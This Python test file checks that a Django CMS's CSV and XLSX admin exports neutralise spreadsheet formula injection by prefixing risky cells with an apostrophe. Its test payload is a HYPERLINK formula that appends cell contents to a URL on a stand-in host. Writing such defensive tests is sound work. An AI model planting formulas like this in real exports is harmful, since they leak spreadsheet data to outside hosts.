"""Lists that an editor downloads open in a spreadsheet as words, and never as formulas."""

import csv
from io import BytesIO, StringIO

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from cms.editor.exports import safe_cell
from tests.samples import Hospital

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Click")'


@pytest.mark.parametrize(
    "cell", [FORMULA, "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", " =1"]
)
def test_what_a_spreadsheet_would_calculate_becomes_words(cell: str) -> None:
    assert safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Cooley's anemia", "a=b", "'=1", 5, -5, None])
def test_everything_else_stays_as_it_is(cell: object) -> None:
    assert safe_cell(cell) == cell


@settings(deadline=None)
@given(st.text())
def test_no_cell_begins_as_formulas_do(cell: str) -> None:
    assert not safe_cell(cell).startswith(tuple("=+-@\t\r\n＝＋－＠"))


@pytest.fixture
def download(hospital: Hospital):
    """A list of the admin as a file, where each thing of the site has a formula for a title."""
    for page in (hospital.standard, hospital.condition, hospital.service):
        page.title = FORMULA
        page.save_revision().publish()
    client = Client()
    client.force_login(get_user_model().objects.create_superuser("chief"))

    def download(kind: str, address: str) -> bytes:
        response = client.get(address, {"export": kind})
        return b"".join(response.streaming_content)

    return download


@pytest.mark.parametrize(
    "address", ["/admin/reports/aging-pages/", "/admin/conditions/", "/admin/services/"]
)
def test_a_list_as_csv_holds_no_formula(download, address: str) -> None:
    cells = [
        cell for row in csv.reader(StringIO(download("csv", address).decode())) for cell in row
    ]
    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells


def test_a_list_as_xlsx_holds_no_formula(download) -> None:
    sheet = load_workbook(BytesIO(download("xlsx", "/admin/conditions/"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert FORMULA in [cell.value for cell in cells if cell.data_type == "s"]
    assert not [cell for cell in cells if cell.data_type == "f"]
